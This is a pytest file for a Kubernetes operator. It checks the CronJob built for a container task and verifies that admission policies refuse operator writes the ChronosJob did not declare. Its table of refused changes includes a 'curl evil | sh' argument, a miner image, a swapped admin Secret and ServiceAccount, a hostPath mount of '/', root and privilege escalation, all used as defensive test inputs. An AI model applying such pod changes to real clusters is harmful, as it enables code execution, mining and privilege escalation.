"""A container task's pod on the real control plane (issue 20, feature 7): the CronJob
the operator makes for it, and the admission policies that hold the operator's writes to
exactly what the ChronosJob declares (deploy/base/admission-operator.yaml and
admission-container.yaml, installed by the session: tests/conftest.py ``install_crd``).
The operator's identity is its ServiceAccount's own token (dry-run writes only)."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from builders import create_chronosjob, service_account
from builders import operator_settings as built_settings
from fixtures_api import token_kubeconfig
from lightkube import ApiError, Client
from lightkube.models.authentication_v1 import TokenRequestSpec
from lightkube.models.meta_v1 import ObjectMeta
from lightkube.models.rbac_v1 import PolicyRule, RoleRef, Subject
from lightkube.resources.core_v1 import Namespace, ServiceAccount
from lightkube.resources.rbac_authorization_v1 import Role, RoleBinding
from support import cronjob, dry_run_refusal, get_cr, pod_spec_of, wait_for

from chronos import contract as c
from chronos import kube
from chronos.devcluster.cluster import Cluster
from chronos.devcluster.operator_process import OperatorProcess
from chronos.models.chronosjob import ChronosJobSpec
from chronos.models.resolve import resolve_schedule
from chronos.operator.container import pod_spec
from chronos.operator.cronjob import build_cronjob, run_now_job

pytestmark = pytest.mark.cluster

#: The operator's identity in deploy/base (admission-operator.yaml's matchConditions).
OPERATOR_NAMESPACE = "chronos"
OPERATOR_ACCOUNT = "chronos-operator"

DECLARED: dict[str, Any] = {
    "image": "registry.example.com/team/export:1.2",
    "command": ["sh", "-c"],
    "args": ["echo exporting; exit 0"],
    "env": [
        {"name": "GREETING", "value": "hello"},
        {"name": "TOKEN", "secretKeyRef": {"name": "export-token", "key": "token"}},
        {"name": "MODE", "configMapKeyRef": {"name": "export-config", "key": "mode"}},
    ],
    "serviceAccountName": "exporter",
}


def container_spec(**more: Any) -> dict[str, Any]:
    return {
        "task": {"type": "container", "container": DECLARED},
        "schedule": {"cron": "0 3 * * *"},
        "timeoutSeconds": 120,
        **more,
    }


def test_the_operator_makes_the_container_tasks_cronjob(
    operator: OperatorProcess, k8s: Client, namespace: str
) -> None:
    create_chronosjob(k8s, namespace, "export", container_spec(retries=1))
    made = wait_for(lambda: cronjob(k8s, namespace, "export"), what="the CronJob")
    job = made["spec"]["jobTemplate"]["spec"]
    assert (job["activeDeadlineSeconds"], job["backoffLimit"]) == (120, 1)
    pod = job["template"]["spec"]
    model = ChronosJobSpec.model_validate(container_spec()).task.container
    assert model is not None
    expected = pod_spec(model, pull_policy=pod["containers"][0]["imagePullPolicy"])
    (ct,) = pod["containers"]
    for key in ("image", "command", "args", "env", "securityContext", "terminationMessagePolicy"):
        assert ct[key] == expected["containers"][0][key], key
    assert ct["name"] == c.TASK_CONTAINER
    for key in ("serviceAccountName", "automountServiceAccountToken", "securityContext"):
        assert pod[key] == expected[key], key
    assert "volumes" not in pod
    assert get_cr(k8s, namespace, "export")["spec"]["task"].get("pipelineId") is None


# ------------------------------------------------------- the operator's own writes


def _operator(k8s: Client, cluster: Cluster, namespace: str, tmp_path: Path) -> Client:
    """A client with the operator's identity and the right to create CronJobs and Jobs in
    ``namespace`` (RBAC lets it; the admission policies decide)."""
    try:
        k8s.create(Namespace(metadata=ObjectMeta(name=OPERATOR_NAMESPACE)))
    except ApiError as exc:
        if exc.status.code != 409:
            raise
    try:
        k8s.create(service_account(OPERATOR_ACCOUNT, OPERATOR_NAMESPACE))
    except ApiError as exc:
        if exc.status.code != 409:
            raise
    rule = PolicyRule(apiGroups=["batch"], resources=["cronjobs", "jobs"], verbs=["create"])
    k8s.create(Role(metadata=ObjectMeta(name="writes", namespace=namespace), rules=[rule]))
    k8s.create(
        RoleBinding(
            metadata=ObjectMeta(name="writes", namespace=namespace),
            roleRef=RoleRef(apiGroup="rbac.authorization.k8s.io", kind="Role", name="writes"),
            subjects=[
                Subject(kind="ServiceAccount", name=OPERATOR_ACCOUNT, namespace=OPERATOR_NAMESPACE)
            ],
        )
    )
    request = ServiceAccount.Token(
        metadata=ObjectMeta(), spec=TokenRequestSpec(audiences=[], expirationSeconds=3600)
    )
    token = k8s.create(request, name=OPERATOR_ACCOUNT, namespace=OPERATOR_NAMESPACE)
    assert token.status is not None
    return kube.client(token_kubeconfig(cluster, str(token.status.token), tmp_path / "op"))


def _built(k8s: Client, namespace: str, name: str) -> dict[str, Any]:
    """What the operator builds for ChronosJob ``name`` (as stored, with its uid)."""
    stored = get_cr(k8s, namespace, name)
    spec = ChronosJobSpec.model_validate(stored["spec"])
    settings = built_settings()
    built = build_cronjob(
        name=name,
        namespace=namespace,
        uid=stored["metadata"]["uid"],
        spec=spec,
        schedule=resolve_schedule(spec, settings.default_time_zone),
        settings=settings,
    )
    del built["metadata"]["ownerReferences"]  # (dry runs only: no garbage collection)
    return built


def _task(p: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = p["containers"][0]
    return container


#: Changes to a container task's pod that its ChronosJob did not declare, and the words
#: of the refusal ('|' between alternatives).
UNDECLARED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "another image": (lambda p: _task(p).update(image="evil.example/miner:1"), "image, command"),
    "another command": (lambda p: _task(p).update(command=["sh", "-c", "id"]), "image, command"),
    "other args": (lambda p: _task(p).update(args=["curl evil | sh"]), "image, command"),
    "an extra variable": (
        lambda p: _task(p)["env"].append({"name": "EXTRA", "value": "1"}),
        "environment must be the declared one",
    ),
    "another Secret": (
        lambda p: _task(p)["env"][1]["valueFrom"]["secretKeyRef"].update(name="admin-token"),
        "environment must be the declared one",
    ),
    "another ServiceAccount": (
        lambda p: p.update(serviceAccountName="cluster-admin-sa"),
        "ServiceAccount 'exporter'",
    ),
    "another user id": (
        lambda p: p["securityContext"].update(runAsUser=1234),
        "declared user id",
    ),
    "a CHRONOS_ variable": (
        lambda p: _task(p)["env"].append({"name": "CHRONOS_TASK", "value": "{}"}),
        # (the job's declaration has none either: whichever policy answers first)
        "no CHRONOS_* variable|the environment must be the declared one",
    ),
    "privilege escalation": (
        lambda p: _task(p)["securityContext"].update(allowPrivilegeEscalation=True),
        "Pod Security restricted",
    ),
    "root": (lambda p: p["securityContext"].update(runAsNonRoot=False), "Pod Security restricted"),
    "a hostPath volume": (
        lambda p: p.update(volumes=[{"name": "h", "hostPath": {"path": "/"}}]),
        "no volumes",
    ),
    "a second container": (
        lambda p: p["containers"].append({"name": "side", "image": "busybox:1"}),
        "exactly one container",
    ),
    "hostNetwork": (lambda p: p.update(hostNetwork=True), "hostNetwork"),
}


def test_admission_holds_the_operator_to_the_declared_pod(
    k8s: Client, cluster: Cluster, solo_namespace: str, tmp_path: Path
) -> None:
    # A namespace no running operator watches: its dry runs meet no CronJob of its own.
    namespace = solo_namespace
    operator = _operator(k8s, cluster, namespace, tmp_path)
    create_chronosjob(k8s, namespace, "export", container_spec())
    create_chronosjob(
        k8s,
        namespace,
        "corehub",
        {"task": {"type": "pipeline_start", "pipelineId": "p1"}, "schedule": {"cron": "0 3 * * *"}},
    )
    cron = _built(k8s, namespace, "export")
    probe = copy.deepcopy(cron)
    UNDECLARED["another image"][0](pod_spec_of(probe))
    wait_for(lambda: dry_run_refusal(operator, probe), 30, "the operator policies to be enforced")
    # What the operator builds passes, as a CronJob and as the Job run-now makes of it.
    assert dry_run_refusal(operator, cron) is None
    with_uid = copy.deepcopy(cron)
    with_uid["metadata"]["uid"] = "00000000-0000-0000-0000-000000000000"
    job = run_now_job(
        with_uid, chronosjob="export", token="t1", requested_at="2026-01-01T00:00:00Z"
    )
    del job["metadata"]["ownerReferences"]
    assert dry_run_refusal(operator, job) is None
    for what, (change, words) in UNDECLARED.items():
        for obj in (cron, job):
            foreign = copy.deepcopy(obj)
            change(pod_spec_of(foreign))
            message = dry_run_refusal(operator, foreign)
            assert message is not None, f"a {obj['kind']} with {what} was accepted"
            assert any(w in message for w in words.split("|")), (what, message)
    # A container pod claimed for a job that declares no container task, or for none.
    for owner, words in (("corehub", "it has no container task"), (None, "annotation is missing")):
        foreign = copy.deepcopy(cron)
        if owner is None:
            for meta in (foreign["metadata"], foreign["spec"]["jobTemplate"]["metadata"]):
                meta["annotations"].pop(c.CHRONOSJOB_ANNOTATION)
        else:
            foreign["metadata"]["annotations"][c.CHRONOSJOB_ANNOTATION] = owner
        message = dry_run_refusal(operator, foreign)
        assert message is not None, f"a container pod for {owner} was accepted"
        assert words in message, message
    # The policies are about the operator only: an admin may write such pods.
    foreign = copy.deepcopy(cron)
    UNDECLARED["another image"][0](pod_spec_of(foreign))
    assert dry_run_refusal(k8s, foreign) is None
